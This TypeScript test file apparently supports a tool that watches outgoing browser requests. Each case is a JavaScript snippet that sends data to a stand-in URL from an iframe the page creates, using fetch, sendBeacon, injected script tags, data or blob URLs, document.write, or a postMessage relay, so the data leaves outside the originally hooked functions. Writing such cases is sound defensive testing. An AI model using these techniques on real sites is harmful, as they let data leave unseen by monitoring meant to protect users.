import { BODY, BOTH, BROWSER, type Case, json } from './case'

const frame = `const f = document.createElement('iframe'); `
const script = `'<script>fetch("' + u + '?m=' + v + '")<' + '/script>'`
const inFrame = { channel: 'fetch', where: /^query:m$/, received: 'path' } as const

/** Frames that a page makes for itself, whose functions are not those that were hooked first. */
export const FRAMES: readonly Case[] = [
  {
    name: 'frame-blank',
    channel: 'fetch',
    act: `${frame}document.body.append(f); f.contentWindow.fetch(u, { method: 'POST', body: ${json} })`,
    where: BODY,
    seenBy: BOTH,
  },
  {
    name: 'frame-pristine',
    channel: 'fetch',
    act: `${frame}f.srcdoc = '<p>'; document.body.append(f); f.contentWindow.fetch.call(window, u, { method: 'POST', body: ${json} })`,
    where: BODY,
    seenBy: BROWSER,
  },
  {
    name: 'frame-srcdoc-beacon',
    channel: 'beacon',
    act: `${frame}f.srcdoc = '<p>'; f.onload = () => f.contentWindow.navigator.sendBeacon(u, ${json}); document.body.append(f)`,
    where: BODY,
    seenBy: BOTH,
  },
  { name: 'frame-srcdoc', ...inFrame, act: `${frame}f.srcdoc = ${script}; document.body.append(f)` },
  {
    name: 'frame-sandbox',
    ...inFrame,
    act: `${frame}f.sandbox = 'allow-scripts'; f.srcdoc = ${script}; document.body.append(f)`,
  },
  {
    name: 'frame-data',
    ...inFrame,
    act: `${frame}f.src = 'data:text/html,' + encodeURIComponent(${script}); document.body.append(f)`,
  },
  {
    name: 'frame-blob',
    ...inFrame,
    act: `${frame}f.src = URL.createObjectURL(new Blob([${script}], { type: 'text/html' })); document.body.append(f)`,
  },
  {
    name: 'frame-written',
    ...inFrame,
    act: `${frame}document.body.append(f); f.contentDocument.write(${script}); f.contentDocument.close()`,
  },
  {
    name: 'frame-relay',
    channel: 'fetch',
    html: '<iframe src="U"></iframe>',
    act: `document.querySelector('iframe').contentWindow.postMessage(v, '*')`,
    where: BODY,
    seenBy: BOTH,
  },
]
